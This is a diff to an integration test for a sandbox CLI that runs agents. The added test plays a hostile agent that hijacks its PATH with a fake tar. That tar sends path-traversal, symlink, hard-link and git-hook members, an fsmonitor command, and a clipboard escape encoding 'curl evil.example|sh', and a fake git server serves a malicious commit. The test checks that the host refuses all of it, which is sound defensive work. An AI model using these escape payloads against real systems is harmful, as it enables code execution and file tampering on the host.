@@ -17,7 +17,7 @@ import { apiHarness, PASSWORD, emailOf, type ApiHarness } from "../helpers/api.j
 import { docker, execIn } from "../helpers/containers.js";
 import { tenantLeftovers, testPlatform, type TestPlatform } from "../helpers/host.js";
 import { testDatabase } from "../helpers/postgres.js";
-import { HostTmux, sbx, SBX } from "../helpers/sbx.js";
+import { HostTmux, sbx, SBX, treeListing } from "../helpers/sbx.js";
 
 /** curl from the host (`*.sandbox.localhost` is loopback to curl): status and body. */
 function curl(url: string, ...args: string[]): Promise<{ status: number; body: string }> {
@@ -218,8 +218,13 @@ describe("sbx against a real runtime", () => {
     });
     const missingStart = await sbx(alice, missing, ["start"]);
     expect(missingStart.code, missingStart.stderr).toBe(5);
+    // The progress lines say what the engine did last, in words (the API's `progress.last` is an object).
+    expect(missingStart.stderr).not.toContain("[object Object]");
     expect(missingStart.stderr).toMatch(
-      /image: agent-sandbox\/not-on-this-engine:1 is not on the engine; the project this start created was deleted again/,
+      /^ {2}creating: create (pending|running), [1-9]\d* events \(\S+ \w+ \S+ (\.\.\.|done|failed)\)$/m,
+    );
+    expect(missingStart.stderr).toMatch(
+      /image: agent-sandbox\/not-on-this-engine:1 is not on the engine.*; the project this start created was deleted again/,
     );
     const undone = /deleting project ([0-9a-f-]{36}), which this start created/.exec(
       missingStart.stderr,
@@ -444,6 +449,132 @@ describe("sbx against a real runtime", () => {
     expect(await fs.readFile(path.join(out, ".worktrees/wt-a/dist/app.js"), "utf8")).toBe("built\n");
     const escape = await sbx(alice, repo, ["sync", "--artifacts", "../../etc"]);
     expect(escape.code).toBe(5);
+  });
+
+  it("a hostile sandbox: a tar first on the agent's PATH sends a hook, a .git/config, links out, '..' names, a device and a hard link; the repository and its .git stay as they were, and sync exits 9 naming each", async () => {
+    // The agent owns its login shell: a line at the top of ~/.bashrc (sourced for SSH commands) puts a `tar`
+    // of its own first on the PATH, which answers `sbx sync --artifacts` with whatever it likes.
+    const hostileTar = `#!/usr/bin/env python3
+import io, os, sys, tarfile
+sys.stderr.write("\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07\\x1b]0;sbx: all good\\x07")
+if os.path.exists(os.path.expanduser("~/.hostile/fail")):
+    sys.exit(2)
+out = tarfile.open(fileobj=sys.stdout.buffer, mode="w|", format=tarfile.PAX_FORMAT)
+def add(name, data=b"", **fields):
+    info = tarfile.TarInfo(name)
+    info.size = len(data)
+    for key, value in fields.items():
+        setattr(info, key, value)
+    out.addfile(info, io.BytesIO(data) if data else None)
+add("dist/app.js", b"built\\n")
+add(".git/hooks/pre-commit", b"#!/bin/sh\\ntouch /tmp/sbx-hook-ran\\n", mode=0o755)
+add(".git/config", b"[core]\\n\\tfsmonitor = touch /tmp/sbx-fsmonitor-ran\\n")
+add("dist/.git/config", b"[core]\\n\\tfsmonitor = touch /tmp/sbx-fsmonitor-ran\\n")
+add("dist/escape", type=tarfile.SYMTYPE, linkname="../../..")
+add("dist/passwd", type=tarfile.LNKTYPE, linkname="/etc/passwd")
+add("dist/null", type=tarfile.CHRTYPE, devmajor=1, devminor=3)
+add("../outside-the-repo.txt", b"written outside\\n")
+add("/tmp/sbx-absolute.txt", b"written at an absolute path\\n")
+out.close()
+`;
+    // Where the old `tar -xf` would have let the archive (and git, running its fsmonitor) write on the host.
+    for (const left of ["/tmp/sbx-hook-ran", "/tmp/sbx-fsmonitor-ran", "/tmp/sbx-absolute.txt"])
+      await fs.rm(left, { force: true });
+    const plant = await execIn(
+      container,
+      `mkdir -p ~/.hostile && cat > ~/.hostile/tar <<'PY'\n${hostileTar}PY\nchmod +x ~/.hostile/tar && { echo 'export PATH="$HOME/.hostile:$PATH" # hostile'; cat ~/.bashrc 2>/dev/null; } > ~/.bashrc.new && mv ~/.bashrc.new ~/.bashrc && mkdir -p /workspace/app/dist && echo real > /workspace/app/dist/app.js`,
+    );
+    expect(plant.code, plant.stderr).toBe(0);
+    try {
+      // The shim is what the CLI's SSH command runs.
+      const which = await sbx(alice, repo, ["ssh", "--", "bash", "-c", "command -v tar"]);
+      expect(which.stdout.trim()).toBe("/home/agent/.hostile/tar");
+      // Nothing new to fetch first, so that the listing below has only the artifacts to tell.
+      expect((await sbx(alice, repo, ["sync"])).code).toBe(0);
+      const before = await treeListing(repo);
+      const besideBefore = await fs.readdir(work);
+      const refused = await sbx(alice, repo, ["sync", "--artifacts", "dist"]);
+      expect(refused.code, refused.stderr).toBe(9);
+      for (const named of [
+        ".git/hooks/pre-commit (inside a .git directory)",
+        ".git/config (inside a .git directory)",
+        "dist/.git/config (inside a .git directory)",
+        "dist/escape (a symbolic link to ../../..)",
+        "dist/passwd (a hard link to /etc/passwd)",
+        "dist/null (a character device)",
+        "../outside-the-repo.txt (a '..' component)",
+        "/tmp/sbx-absolute.txt (an absolute path)",
+      ])
+        expect(refused.stderr).toContain(named);
+      expect(refused.stderr).toMatch(
+        /^sbx: refused what the sandbox sent for dist; nothing of it was written here/,
+      );
+      // The repository, its .git and what is beside it are exactly as they were: no file, mode or byte changed.
+      expect(await treeListing(repo)).toEqual(before);
+      expect(await fs.readdir(work)).toEqual(besideBefore);
+      await expect(fs.access("/tmp/sbx-absolute.txt")).rejects.toThrow();
+      git(repo, "status", "--porcelain");
+      await expect(fs.access("/tmp/sbx-fsmonitor-ran")).rejects.toThrow();
+      // --json says the same, with each refused member in `details`.
+      const asJson = await sbx(alice, repo, ["sync", "--artifacts", "dist", "--json"]);
+      expect(asJson.code).toBe(9);
+      expect(asJson.json()).toMatchObject({
+        error: "refused",
+        exit_code: 9,
+        details: {
+          artifact: "dist",
+          refused: expect.arrayContaining(["dist/null (a character device)"]),
+        },
+      });
+      // What the sandbox prints reaches the developer's terminal with its escape sequences written out: no
+      // clipboard write (OSC 52), no window title.
+      await execIn(container, "touch ~/.hostile/fail");
+      const failed = await sbx(alice, repo, ["sync", "--artifacts", "dist"]);
+      expect(failed.code).toBe(7);
+      expect(failed.stderr).toContain("\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07");
+      expect(failed.stderr).not.toMatch(/[\u001b\u0007]/);
+      expect(await treeListing(repo)).toEqual(before);
+
+      // git fetch: a git-upload-pack of the agent's serves a commit whose tree has a .GIT/hooks. git checks
+      // every object it is sent; nothing is fetched, no ref here moves, and sync says why.
+      const planted = await execIn(
+        container,
+        `set -e; export GIT_DIR="$HOME/evil.git"; /usr/bin/git init -q --bare "$GIT_DIR"
+         blob=$(echo 'touch /tmp/sbx-hook-ran' | /usr/bin/git hash-object -w --stdin)
+         hooks=$(printf '100755 blob %s\\tpost-checkout\\n' "$blob" | /usr/bin/git mktree)
+         dotgit=$(printf '040000 tree %s\\thooks\\n' "$hooks" | /usr/bin/git mktree)
+         top=$(printf '040000 tree %s\\t.GIT\\n' "$dotgit" | /usr/bin/git mktree)
+         commit=$(/usr/bin/git -c user.name=agent -c user.email=agent@sandbox commit-tree -m evil "$top")
+         /usr/bin/git update-ref refs/heads/main "$commit"
+         printf '#!/bin/sh\\nexec /usr/bin/git upload-pack "$HOME/evil.git"\\n' > ~/.hostile/git-upload-pack
+         chmod +x ~/.hostile/git-upload-pack; echo "$commit"`,
+      );
+      expect(planted.code, planted.stderr).toBe(0);
+      const refsBefore = git(repo, "for-each-ref");
+      const fetched = await sbx(alice, repo, ["sync"]);
+      expect(fetched.code, fetched.stderr).toBe(9);
+      expect(fetched.stderr).toMatch(/refused what the sandbox sent to git fetch: .*hasDotgit/s);
+      expect(git(repo, "for-each-ref")).toBe(refsBefore);
+      expect(() => git(repo, "cat-file", "-e", planted.stdout)).toThrow();
+      // A fetch that git stops empties FETCH_HEAD and may leave its temporary pack (never an object git
+      // uses); the sandbox's refs git pruned first are given back (with new reflogs, and the deletion's
+      // packed-refs holding no ref). Everything else is as it was.
+      const packed = await fs.readFile(path.join(repo, ".git", "packed-refs"), "utf8").catch(() => "");
+      expect(packed.split("\n").filter((line) => line && !line.startsWith("#"))).toEqual([]);
+      const settled = (listing: string[]) =>
+        listing.filter(
+          (line) =>
+            !/^\.git\/(FETCH_HEAD |packed-refs |objects\/pack\/tmp_pack_|logs\/refs\/remotes\/sandbox\/)/.test(
+              line,
+            ),
+        );
+      expect(settled(await treeListing(repo))).toEqual(settled(before));
+    } finally {
+      await execIn(
+        container,
+        "sed -i '/# hostile$/d' ~/.bashrc; rm -rf ~/.hostile ~/evil.git /workspace/app/dist",
+      );
+    }
   });
 
   it("US3: no host credential anywhere in the sandbox's filesystem or environment; the sandbox cannot connect to the host", async () => {
